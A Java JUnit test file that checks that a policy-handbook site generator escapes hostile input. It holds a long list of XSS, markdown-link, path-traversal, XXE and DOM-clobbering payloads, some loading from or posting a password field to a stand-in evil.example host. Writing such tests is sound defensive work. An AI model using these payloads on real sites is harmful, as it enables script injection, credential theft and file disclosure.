package io.github.policyhandbook.handbook;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.JsonElement;
import com.google.gson.JsonParser;
import io.github.policyhandbook.history.TestRepository;
import io.github.policyhandbook.model.Finding;
import io.github.policyhandbook.model.Progress;
import io.github.policyhandbook.model.Severity;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import javax.xml.XMLConstants;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A handbook whose policies hold every kind of attack, in their text and in their facts: one of them now, one in the past
 * only, and one that changed from attack to attack, so that comparisons quote both.
 */
class HostilePolicyTest {

    private static final List<String> ATTACKS = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/a.js></sCrIpT>",
            "</script><script>alert(1)</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"https://evil.example/pixel.gif\" srcset=\"https://evil.example/2.gif 2x\" alt=\"pixel\">",
            "![pixel](https://evil.example/pixel.gif)",
            "![pixel](//evil.example/pixel.gif)",
            "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<iframe src=\"javascript:alert(1)\" srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"https://evil.example/a.swf\"><embed src=\"a.swf\"><applet code=a></applet></object>",
            "<form action=\"//evil.example\"><input name=password><button formaction=\"javascript:alert(1)\">x</button></form>",
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=\"ReFresh\" content=\"0;url=https://evil.example\">",
            "<link rel=stylesheet href=//evil.example/a.css><style>@import '//evil.example/b.css';</style>",
            "<p style=\"width:expression(alert(1));background:url(javascript:alert(1))\">styled</p>",
            "<div id=\"aup-search\" name=\"location\" class=\"policy-body\">clobbered</div>",
            "<a id=\"body\" name=\"cookie\" href=\"#body\">clobbered</a><img name=\"getElementById\" src=\"a.png\">",
            "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a> <a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\"&#106;&#97vascript&colon;alert(1)\">x</a> <a href=\"\u0001javascript:alert(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a> <a href=\"vbscript:msgbox(1)\">x</a>",
            "[x](javascript:alert(1)) [x](JAVASCRIPT&#58;alert(1)) [x](<java\tscript:alert(1)>) [x](\\javascript:alert(1))",
            "[x](data:text/html,%3Cscript%3E) [x](vbscript:a) [x](file:///etc/passwd) [x](blob:a) [x](view-source:a)",
            "[x]: javascript:alert(1)\n\n[x] <javascript:alert(1)>",
            "[x](a.md \"\\\" onclick=alert(1) \\\"\") ![\" onerror=alert(1) \"](a.png)",
            "[x](../../../../etc/passwd) [x](..%2f..%2fetc%2fpasswd) [x](/..\\..\\etc) [x](a%00.md) ![x](../../../.git/config)",
            "![x](data:image/svg+xml;base64,PHN2Zz4=) ![x](javascript:alert(1))",
            "<!-- --!><script>alert(1)</script> --> after",
            "<!--> <script>alert(1)</script> <!-- -->",
            "<![CDATA[<script>alert(1)</script>]]> after",
            "<?php echo '<script>alert(1)</script>'; ?> <!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]> &x;",
            "</div></article></main></body></html><script>alert(1)</script>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<xmp><script>alert(1)</script></xmp> <plaintext> <textarea><script>alert(1)</script></textarea>",
            "`</code><script>alert(1)</script>` and\n\n```html\n</code></pre><script>alert(1)</script>\n```",
            "# Heading <img src=x onerror=alert(1)> {#\" onclick=\"alert(1)}",
            "Text {#a\"><script>alert(1)</script>}",
            "| <script>alert(1)</script> | b |\n|---|---|\n| <td onclick=alert(1)> | </table><script>alert(1)</script> |",
            "note[^\"><script>]\n\n[^\"><script>]: <script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; ]]> --> \u2028 \u2029 */ // \\\" '",
            "ClauseStart[clause=0] <ins class=\"aup-change\">x</ins> <del onclick=alert(1)>x</del>");

    /** As a value between the quotation marks of YAML's single kind. */
    private static final String HOSTILE_FACTS = """
            title: '</title><script>alert("title")</script>'
            owner: '"><img src=x onerror=alert("owner")>'
            audience: ['<script>alert("audience")</script>', "'' onclick=alert(1)"]
            category: '</script><svg onload=alert("category")>'
            approver: '<iframe src=javascript:alert("approver")>'
            approved: 2024-09-01
            approved-by: '--><script>alert("approved-by")</script>'
            replaced-by: 'javascript:alert("replaced-by")'
            statutory: 'yes'
            review: 2025-09-01
            acknowledgement: true
            contacts:
              '<script>alert("role")</script>': '<a href="javascript:alert(1)">name</a>'
              Head: 'javascript:alert(1)'
            summary-of-changes: ']]><script>alert("summary")</script>'
            """;

    @TempDir
    private static Path folder;

    private static Path site;
    private static final List<Finding> FINDINGS = new ArrayList<>();

    @BeforeAll
    static void build() {
        try (TestRepository repository = TestRepository.in(folder.resolve("school"))) {
            write(repository, 0, 1);
            repository.commit(LocalDate.of(2023, 10, 1), "<script>alert('subject')</script>");
            write(repository, 1, 2);
            repository.commit(LocalDate.of(2024, 10, 1), "]]></subject><img src=x onerror=alert(1)>");
            for (int i = 0; i < ATTACKS.size(); i++) {
                repository.write("policies/past-" + i + ".md", "# Past " + i + "\n\nBefore.\n\nClean.\n\nAfter.\n");
            }
            repository.commit(LocalDate.of(2025, 10, 1), "Clean up");
            site = folder.resolve("handbook");
            HandbookSite.build(
                    TestSettings.of(repository.path().resolve("policies"))
                            .with("asOf", "2025-12-01")
                            .with("baseUrl", "https://handbook.example/")
                            .with("editUrl", "https://git.example/edit/{path}")
                            .with("compare", "all")
                            .with("pdf", "true")
                            .heardBy(listener())
                            .settings(),
                    site);
        }
    }

    @Test
    void noPageRunsLoadsOrSendsAnything() {
        assertThat(WrittenPages.in(site)).hasSizeGreaterThan(5 * ATTACKS.size());
        assertThat(WrittenPages.intruders(site)).isEmpty();
    }

    @Test
    void anIntruderWouldBeSeen(@TempDir Path pages) throws IOException {
        Files.writeString(
                pages.resolve("page.html"),
                "<p onclick=a><script>a</script><a href='java\tscript:a'>a</a><img src=//a.b/c.png><p id=a><p id=a>"
                        + "<div class=policy-body><p style=a><svg></svg></div>");

        assertThat(WrittenPages.intruders(pages)).hasSize(7);
    }

    @Test
    void theWordsAroundAnAttackAreShown() throws IOException {
        for (int i = 0; i < ATTACKS.size(); i++) {
            assertThat(Files.readString(site.resolve("policies/now-" + i + ".html")))
                    .as(ATTACKS.get((i + 1) % ATTACKS.size()))
                    .contains("Before.", "After.");
        }
    }

    @Test
    void theDataCannotEndTheScriptOrFileTheyStandIn() throws Exception {
        for (Path file : files(".json")) {
            assertThat(JsonParser.parseString(Files.readString(file)))
                    .as(file.toString())
                    .isInstanceOf(JsonElement.class);
        }
        for (Path file : files(".js")) {
            String script = Files.readString(file);
            if (file.getFileName().toString().startsWith("search-index")
                    || file.getFileName().toString().startsWith("search-years")) {
                String data = script.substring(script.indexOf('=') + 1, script.lastIndexOf(';'));
                assertThat(JsonParser.parseString(data).isJsonObject()).isTrue();
                assertThat(script).doesNotContain("<script", "</script", "<!--", "\u2028", "\u2029");
            }
        }
        DocumentBuilderFactory xml = DocumentBuilderFactory.newInstance();
        xml.setFeature(XMLConstants.FEATURE_SECURE_PROCESSING, true);
        xml.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        for (Path file : files(".xml")) {
            assertThat(xml.newDocumentBuilder()
                            .parse(file.toFile())
                            .getElementsByTagName("script")
                            .getLength())
                    .as(file.toString())
                    .isZero();
        }
    }

    @Test
    void nothingIsWrittenOutsideTheSite() {
        assertThat(folder.toFile().list()).containsExactlyInAnyOrder("school", "handbook");
    }

    @Test
    void whatIsToldIsAWarningAndOfTheTipOnly() {
        assertThat(FINDINGS)
                .isNotEmpty()
                .allMatch(finding -> finding.fault().severity() == Severity.WARNING)
                .noneMatch(finding -> finding.path().contains("past-"));
    }

    /** One policy each, so that an attack that swallows the rest of its text hides no other. */
    private static void write(TestRepository repository, int now, int past) {
        for (int i = 0; i < ATTACKS.size(); i++) {
            repository.write("policies/now-" + i + ".md", text("Now " + i, ATTACKS.get((i + now) % ATTACKS.size())));
            repository.write("policies/past-" + i + ".md", text("Past " + i, ATTACKS.get((i + past) % ATTACKS.size())));
        }
        repository.write("policies/facts.md", "---\n" + HOSTILE_FACTS + "---\n# Facts\n\nState " + now + ".\n");
        repository.write("policies/index.md", "# Home\n\n" + String.join("\n\n", ATTACKS));
    }

    private static String text(String title, String attack) {
        return "# " + title + "\n\nBefore.\n\nAfter.\n\n- item " + attack.replace("\n", "\n  ") + "\n\n> "
                + attack.replace("\n", "\n> ") + "\n\n" + attack + "\n";
    }

    private static List<Path> files(String ending) throws IOException {
        try (Stream<Path> files = Files.walk(site)) {
            List<Path> found = files.filter(file -> file.toString().endsWith(ending))
                    .sorted()
                    .toList();
            assertThat(found).isNotEmpty();
            return found;
        }
    }

    private static Progress listener() {
        return new Progress() {
            @Override
            public void step(String sentence) {}

            @Override
            public void warn(String sentence) {}

            @Override
            public void finding(Finding finding) {
                FINDINGS.add(finding);
            }
        };
    }
}
